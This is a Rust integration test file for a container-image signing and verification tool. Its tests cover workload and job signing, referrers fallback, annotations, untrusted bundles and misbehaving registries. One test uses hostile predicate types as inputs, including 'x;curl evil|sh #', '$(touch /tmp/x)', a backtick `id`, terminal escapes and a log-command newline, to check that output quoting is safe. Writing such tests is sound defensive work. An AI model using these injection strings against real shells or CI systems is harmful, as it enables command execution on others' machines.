//! Images: signed by workloads and jobs, verified by anyone.

use serde_json::{Value, json};

use harness::{RawRequest, Reply, Setup, by};

#[test]
fn a_spiffe_workload_signs_with_nothing_but_its_socket() {
    let setup = Setup::new();
    let image = setup.image("demo/app");
    let signed = setup.workload().args(["sign", "-o", "json", &image]).run().ends(0);
    let [line] = signed.json().try_into().unwrap();
    assert_eq!(line["image"], json!(image));
    assert_eq!(line["digest"], json!(setup.digest("demo/app")));
    assert_eq!(line["identity"], json!(setup.workload_id()));
    assert_eq!(line["issuer"], json!(setup.sandbox.spiffe_issuer()));
    assert_eq!(line["provider"], "spiffe");
    assert_eq!(line["attached"], "referrers");
    assert!(line["log_index"].is_u64() && line["timestamp"].is_string(), "{line}");
    assert!(line["bundle_digest"].as_str().unwrap().starts_with("sha256:"), "{line}");

    let verify = setup.program().args(["verify", &image]).args(setup.by_workload());
    let [found] = verify.run().ends(0).json().try_into().unwrap();
    let [found] = found.as_array().unwrap().as_slice() else { panic!("{found}") };
    assert_eq!(found["critical"]["identity"]["docker-reference"], json!(image));
    assert_eq!(found["critical"]["image"]["docker-manifest-digest"], line["digest"]);
    assert_eq!(found["critical"]["type"], "https://sigstore.dev/cosign/sign/v1");
    let optional = &found["optional"];
    assert_eq!(optional["Subject"], json!(setup.workload_id()));
    assert_eq!(optional["Issuer"], json!(setup.sandbox.spiffe_issuer()));
    assert_eq!(optional["bundle_digest"], line["bundle_digest"]);
    assert_eq!(optional["log_index"], line["log_index"]);
}

#[test]
fn a_github_job_signs_and_its_workflow_is_shown_and_demanded() {
    let setup = Setup::new();
    let image = setup.image("demo/app");
    setup.job().args(["sign", &image]).run().ends(0);
    let verify = || setup.program().args(["verify", &image]).args(setup.by_job());
    let found = verify().args(["--certificate-github-workflow-trigger", "push"]).run().ends(0);
    let optional = &found.json()[0][0]["optional"];
    assert_eq!(optional["SourceRepositoryURI"], "https://github.com/octo-org/octo-repo");
    assert_eq!(optional["githubWorkflowTrigger"], "push");
    verify()
        .args(["--certificate-github-workflow-trigger", "schedule"])
        .run()
        .ends(12)
        .says(&["schedule", "push"]);
}

#[test]
fn a_registry_without_the_referrers_api_gets_the_fallback_tag() {
    let setup = Setup::with(|config| config.referrers = false);
    let image = setup.image("demo/app");
    let signed = setup.workload().args(["sign", "-o", "json", &image]).run().ends(0);
    assert_eq!(signed.json()[0]["attached"], "fallback-tag");
    setup.program().args(["verify", &image]).args(setup.by_workload()).run().ends(0);
}

#[test]
fn a_rekor_v2_log_with_a_timestamp_authority_will_do() {
    let setup = Setup::new();
    let image = setup.image("demo/app");
    let config = setup.sandbox.signing_config(sandbox::RekorVersion::V2);
    let signed = setup
        .workload()
        .env("AMBISIGN_SIGNING_CONFIG", config)
        .args(["sign", "-o", "json", &image])
        .run()
        .ends(0);
    let line = &signed.json()[0];
    let log = line["log_url"].as_str().unwrap().trim_end_matches('/');
    assert_eq!(log, setup.sandbox.endpoints().rekor_v2);
    let found = setup.program().args(["verify", &image]).args(setup.by_workload()).run().ends(0);
    let optional = &found.json()[0][0]["optional"];
    assert_eq!(optional["signing_time_source"], "timestamp-authority");
    assert_eq!(optional["signing_time"], line["timestamp"]);
}

#[test]
fn many_images_share_one_certificate() {
    let setup = Setup::new();
    let images: Vec<_> = (0..12).map(|number| setup.image(&format!("demo/app{number}"))).collect();
    let signed = setup.workload().args(["sign", "-d", "-o", "json"]).args(&images).run().ends(0);
    assert_eq!(signed.stderr.matches("Certified").count(), 1, "{signed:#?}");
    let mut signed: Vec<_> =
        signed.json().iter().map(|line| line["image"].as_str().unwrap().to_owned()).collect();
    signed.sort();
    let mut expected = images.clone();
    expected.sort();
    assert_eq!(signed, expected);
    let verified =
        setup.program().args(["verify"]).args(&images).args(setup.by_workload()).run().ends(0);
    assert_eq!(verified.json().len(), 12);
}

#[test]
fn signing_again_adds_a_signature() {
    for referrers in [true, false] {
        let setup = Setup::with(|config| config.referrers = referrers);
        let image = setup.image("demo/app");
        setup.workload().args(["sign", &image]).run().ends(0);
        setup.job().args(["sign", &image]).run().ends(0);
        let any = ["--certificate-identity-regexp", ".*", "--certificate-oidc-issuer-regexp", ".*"];
        let found = setup.program().args(["verify", &image]).args(any).run().ends(0);
        assert_eq!(found.json()[0].as_array().unwrap().len(), 2);
        setup.program().args(["verify", &image]).args(setup.by_job()).run().ends(0);
    }
}

#[test]
fn the_platforms_of_an_image_are_signed_when_asked_for() {
    for referrers in [true, false] {
        let setup = Setup::with(|config| config.referrers = referrers);
        let image = setup.image("demo/app");
        let signed = setup.workload().args(["sign", "-r", "-d", "-o", "json", &image]).run();
        let signed = signed.ends(0);
        assert_eq!(signed.stderr.matches("Certified").count(), 1, "{signed:#?}");
        let lines = signed.json();
        assert_eq!(lines.len(), 3, "the index and two platforms: {lines:?}");
        for line in lines {
            let name = format!("{}/demo/app@", setup.sandbox.registry());
            let part = format!("{name}{}", line["digest"].as_str().unwrap());
            assert!(line["image"] == json!(part) || line["image"] == json!(image), "{line}");
            setup.program().args(["verify", &part]).args(setup.by_workload()).run().ends(0);
        }
    }
}

#[test]
fn processes_at_the_same_time_lose_no_signature() {
    let setup = Setup::with(|config| config.referrers = false);
    let image = setup.image("demo/app");
    let children: Vec<_> =
        (0..6).map(|_| setup.workload().args(["sign", &image]).spawn()).collect();
    for child in children {
        harness::Outcome::new(child.wait_with_output().unwrap()).ends(0);
    }
    let found = setup.program().args(["verify", &image]).args(setup.by_workload()).run().ends(0);
    assert_eq!(found.json()[0].as_array().unwrap().len(), 6);
}

#[test]
fn an_image_is_named_by_its_digest_as_well() {
    let setup = Setup::new();
    setup.image("demo/app");
    let image = format!("{}/demo/app@{}", setup.sandbox.registry(), setup.digest("demo/app"));
    setup.workload().args(["sign", &image]).run().ends(0);
    let text = setup.program().args(["verify", "-o", "text", &image]).args(setup.by_workload());
    let text = text.run().ends(0);
    assert!(text.stdout.contains(&setup.workload_id()), "{text:#?}");
}

#[test]
fn annotations_are_signed_and_demanded() {
    let setup = Setup::new();
    let image = setup.image("demo/app");
    setup.workload().args(["sign", "-a", "env=prod,q=a=b", &image]).run().ends(0);
    let verify = |annotation: &str| {
        let verify = setup.program().args(["verify", "-a", annotation, &image]);
        verify.args(setup.by_workload()).run()
    };
    let found = verify("env=prod").ends(0);
    let report = &found.json()[0][0];
    assert_eq!(report["optional"]["env"], "prod");
    assert_eq!(report["optional"]["q"], "a=b");
    assert_eq!(report["optional"]["Subject"], json!(setup.workload_id()));
    assert_eq!(report["claims"]["annotations"], json!({ "env": "prod", "q": "a=b" }));
    verify("env=test").ends(12).says(&["env", "test", "prod"]);
}

#[test]
fn an_annotation_with_the_name_of_a_verified_fact_is_not_signed_and_stays_a_claim() {
    let setup = Setup::new();
    let image = setup.image("demo/app");
    for name in ["SourceRepositoryURI", "runnerenvironment", "Subject", "githubWorkflowSha"] {
        let annotation = format!("{name}=https://github.com/acme/app");
        let sign = setup.workload().args(["sign", "-a", &annotation, &image]).run();
        sign.ends(2).says(&["the annotation", name, "cannot be signed"]);
    }
    setup.program().args(["verify", &image]).args(setup.by_workload()).run().ends(10);
}

#[test]
fn what_is_not_uploaded_is_written_and_the_image_stays_unsigned() {
    let setup = Setup::new();
    let image = setup.image("demo/app");
    let bundle = setup.path("app.json");
    let signed = setup
        .workload()
        .args(["sign", "--upload=false", "-o", "json", &image, "--bundle"])
        .arg(&bundle)
        .run()
        .ends(0);
    assert_eq!(signed.json()[0]["attached"], Value::Null);
    let bundle: Value = serde_json::from_slice(&std::fs::read(bundle).unwrap()).unwrap();
    assert_eq!(bundle["mediaType"], "application/vnd.dev.sigstore.bundle.v0.3+json");
    setup.program().args(["verify", &image]).args(setup.by_workload()).run().ends(10);
}

#[test]
fn the_statement_names_the_repository() {
    let setup = Setup::new();
    let image = setup.image("demo/app");
    let bundle = setup.path("app.json");
    setup.workload().args(["sign", &image, "--bundle"]).arg(&bundle).run().ends(0);
    let bundle = bundle::Bundle::from_json(&std::fs::read(bundle).unwrap()).unwrap();
    let bundle::Content::Envelope(envelope) = bundle.content() else { panic!("no envelope") };
    let statement: Value = serde_json::from_slice(&envelope.payload.to_bytes()).unwrap();
    let repository = format!("{}/demo/app", setup.sandbox.registry());
    assert_eq!(statement["subject"][0]["name"], json!(repository));
    assert_eq!(statement["predicate"], json!({}));
}

#[test]
fn several_images_are_each_reported_and_the_worst_code_wins() {
    let setup = Setup::new();
    let signed = setup.image("demo/signed");
    let unsigned = setup.image("demo/unsigned");
    let missing = format!("{}/demo/missing:v1", setup.sandbox.registry());
    setup
        .workload()
        .args(["sign", &missing, &signed])
        .run()
        .ends(11)
        .says(&["demo/missing:v1 was not signed", "does not exist"]);
    let verified = setup
        .program()
        .args(["verify", &missing, &unsigned, &signed])
        .args(setup.by_workload())
        .run()
        .ends(10)
        .says(&["demo/missing:v1", "no signatures found", "demo/unsigned:v1"]);
    let lines = verified.json();
    let failures: Vec<_> = lines[..2].iter().map(|line| (&line["image"], &line["exit"])).collect();
    assert_eq!(failures, [(&json!(missing), &json!(11)), (&json!(unsigned), &json!(10))]);
    assert!(lines.len() == 3 && lines[2].is_array(), "the order is that of the images");
    let other = by("somebody", "https://issuer.example");
    setup.program().args(["verify", &missing, &unsigned, &signed]).args(other).run().ends(12);
}

#[test]
fn a_given_token_signs_and_a_person_may_be_the_signer() {
    let setup = Setup::new();
    let image = setup.image("demo/app");
    let token = setup.sandbox.email_token("jane@example.org").unwrap();
    let file = setup.write("token", format!("{token}\n"));
    let issuer = setup.sandbox.endpoints().oidc.clone();
    let signed = [
        setup.program().args(["sign", "--identity-token", &token, &image]).run(),
        setup.program().args(["sign", &image, "--identity-token"]).arg(&file).run(),
        setup.program().env("COSIGN_IDENTITY_TOKEN", &token).args(["sign", &image]).run(),
        setup.program().env("SIGSTORE_ID_TOKEN", &token).args(["sign", "-d", &image]).run(),
        setup.program().env("SIGSTORE_OIDC_TOKEN_FILE", &file).args(["sign", &image]).run(),
        setup
            .program()
            .args(["sign", "--identity-token", "-", &image])
            .run_with_stdin(token.as_bytes()),
    ];
    let count = signed.len();
    for signed in signed {
        signed.ends(0).hides(&token);
    }
    let verify = setup.program().args(["verify", &image]).args(by("jane@example.org", &issuer));
    let found = verify.run().ends(0);
    assert_eq!(found.json()[0].as_array().unwrap().len(), count);
}

#[test]
fn the_command_line_wins_over_the_environment_and_ours_over_cosigns() {
    let setup = Setup::new();
    let image = setup.image("demo/app");
    setup.workload().args(["sign", &image]).run().ends(0);
    let [_, identity, _, issuer] = setup.by_workload();
    let verify = || {
        let verify = setup.program().args(["verify", &image]);
        verify.env("COSIGN_CERTIFICATE_OIDC_ISSUER", &issuer)
    };
    verify().env("COSIGN_CERTIFICATE_IDENTITY", &identity).run().ends(0);
    let ours = || verify().env("AMBISIGN_CERTIFICATE_IDENTITY", "me");
    ours().env("COSIGN_CERTIFICATE_IDENTITY", &identity).run().ends(12);
    ours().args(["--certificate-identity", &identity]).run().ends(0);
}

#[test]
fn an_attestation_alone_is_no_signature() {
    let setup = Setup::new();
    let image = setup.image("demo/app");
    let attestation = statement_bundle("https://slsa.dev/provenance/v1");
    setup.attach(&image, &attestation);
    let verify = || setup.program().args(["verify", &image]).args(setup.by_workload()).run();
    verify().ends(10).says(&["no signatures found", "verify its attestation"]);
    setup.workload().args(["sign", &image]).run().ends(0);
    verify().ends(0);
}

#[test]
fn a_predicate_type_of_another_signer_is_quoted_for_the_shell_or_not_offered() {
    let setup = Setup::new();
    let long = format!("https://evil.example/{}", "x".repeat(400));
    for (number, hostile, offered) in [
        (0, "x;curl evil|sh #", Some("--type 'x;curl evil|sh #' ")),
        (1, "$(touch /tmp/x)", Some("--type '$(touch /tmp/x)' ")),
        (2, "it's `id`", Some("--type \"it's \"'`id`' ")),
        (3, &long, Some(&*format!("--type {long} "))),
        (4, "https://evil.example/\u{1b}[2J", None),
        (5, "https://evil.example/\u{202e}gpj", None),
        (6, "https://evil.example/\u{9b}x", None),
        (7, "https://evil.example/a\n::warning::", None),
    ] {
        let image = setup.image(&format!("demo/app{number}"));
        setup.attach(&image, &statement_bundle(hostile));
        let verify = setup.program().args(["verify", &image]).args(setup.by_workload());
        let done = verify.run().ends(10);
        match offered {
            Some(text) => _ = done.says(&[text]).hides("--type x;").hides("--type $"),
            None => _ = done.hides("--type").hides(hostile),
        }
    }
}

#[test]
fn a_signature_by_a_key_lacks_the_certificate() {
    let setup = Setup::new();
    let image = setup.image("demo/app");
    setup.attach(&image, &statement_bundle(bundle::SIGN_PREDICATE_TYPE));
    let verify = || setup.program().args(["verify", &image]).args(setup.by_workload()).run();
    verify().ends(13).says(&["expected a bundle with a certificate"]);
    setup.workload().args(["sign", &image]).run().ends(0);
    verify().ends(0);
}

#[test]
fn a_bundle_of_another_image_is_refused() {
    let setup = Setup::new();
    let (image, other) = (setup.image("demo/app"), setup.image("demo/other"));
    let bundle = setup.path("other.json");
    setup.workload().args(["sign", &other, "--bundle"]).arg(&bundle).run().ends(0);
    setup.attach(&image, &std::fs::read(bundle).unwrap());
    let verify = setup.program().args(["verify", &image]).args(setup.by_workload());
    verify.run().ends(12).says(&["subject: the statement is about sha256:"]);
}

#[test]
fn a_signature_that_was_not_logged_is_accepted_only_when_asked_for() {
    let setup = Setup::new();
    let image = setup.image("demo/app");
    let signed = setup.workload().args(["sign", "--tlog-upload=false", "-o", "json", &image]);
    let signed = signed.run().ends(0).says(&["--insecure-ignore-tlog"]);
    assert_eq!(signed.json()[0]["log_url"], Value::Null);
    let verify = || setup.program().args(["verify", &image]).args(setup.by_workload());
    verify().run().ends(12).says(&["transparency log", "--insecure-ignore-tlog"]);
    verify().args(["--insecure-ignore-tlog"]).run().ends(0).says(&["warning:"]);
}

/// A bundle of an untrusted signer, over a statement of this kind.
fn statement_bundle(predicate_type: &str) -> Vec<u8> {
    let subject = bundle::Subject {
        digests: [("sha256".to_owned(), "00".repeat(32))].into(),
        ..bundle::Subject::default()
    };
    let envelope = bundle::Envelope {
        payload: bundle::Statement::new(vec![subject], predicate_type, &json!({})).to_json().into(),
        payload_type: bundle::INTOTO_PAYLOAD_TYPE.to_owned(),
        signatures: vec![bundle::EnvelopeSignature { sig: vec![1], keyid: None }],
    };
    let material = bundle::VerificationMaterial::PublicKey { hint: Some("key".to_owned()) };
    let content = bundle::Content::Envelope(envelope);
    bundle::Bundle::new(material, content, Vec::new(), Vec::new()).unwrap().to_json().into_bytes()
}

/// The bundles that a run left in its directory.
fn kept(setup: &Setup) -> Vec<std::path::PathBuf> {
    let entries = std::fs::read_dir(setup.directory()).unwrap();
    let paths = entries.map(|entry| entry.unwrap().path());
    paths.filter(|path| path.to_string_lossy().ends_with(".sigstore.json")).collect()
}

fn is_manifest_write(request: &RawRequest) -> bool {
    request.is("PUT", "/manifests/")
}

#[test]
fn a_signature_that_cannot_be_attached_is_kept_in_a_file_and_can_be_attached_later() {
    let setup = Setup::new();
    let image = setup.image("demo/app");
    let registry = setup.hostile_registry(|request| match is_manifest_write(request) {
        true => Reply::refusal(403, "DENIED"),
        false => Reply::Forward,
    });
    let hostile = format!("{}/demo/app:v1", registry.address());
    let refused = setup.workload().args(["sign", &hostile]).run().ends(1);
    let refused =
        refused.says(&["was signed and logged", "the signature is not lost", "ambisign attach"]);
    let [file] = kept(&setup).try_into().unwrap_or_else(|found| panic!("{found:?} {refused:?}"));
    let name = file.file_name().unwrap().to_str().unwrap();
    assert!(refused.stderr.contains(name), "{refused:?}");
    assert_eq!(setup.logged(), 1);
    let verify = || setup.program().args(["verify", &image]).args(setup.by_workload()).run();
    verify().ends(10);
    setup.attach(&image, &std::fs::read(file).unwrap());
    verify().ends(0);
}

#[test]
fn a_signature_is_kept_when_time_is_up_before_it_is_attached() {
    let setup = Setup::new();
    setup.image("demo/app");
    let registry = setup.hostile_registry(|request| match is_manifest_write(request) {
        true => Reply::Hang,
        false => Reply::Forward,
    });
    let hostile = format!("{}/demo/app:v1", registry.address());
    let ended = setup.workload().args(["sign", "-t", "15s", &hostile]).run().ends(1);
    ended.says(&["the signature is not attached", "the signature is not lost", "ambisign attach"]);
    assert_eq!(kept(&setup).len(), 1);
}

#[test]
fn one_candidate_that_cannot_be_fetched_hides_no_signature_and_is_named_when_it_matters() {
    let setup = Setup::new();
    let image = setup.image("demo/app");
    setup.workload().args(["sign", &image]).run().ends(0);
    let job = setup.job().args(["sign", "-o", "json", &image]).run().ends(0).json().remove(0);
    let bundle = job["bundle_digest"].as_str().unwrap().to_owned();
    let unreachable = bundle.clone();
    let registry =
        setup.hostile_registry(move |request| match request.target.contains(&unreachable) {
            true => Reply::refusal(403, "DENIED"),
            false => Reply::Forward,
        });
    let hostile = format!("{}/demo/app:v1", registry.address());
    let verify =
        |signer: [String; 4]| setup.program().args(["verify", &hostile]).args(signer).run();
    verify(setup.by_workload()).ends(0);
    verify(setup.by_job()).ends(1).says(&["could not be verified", "could not be fetched"]);
}
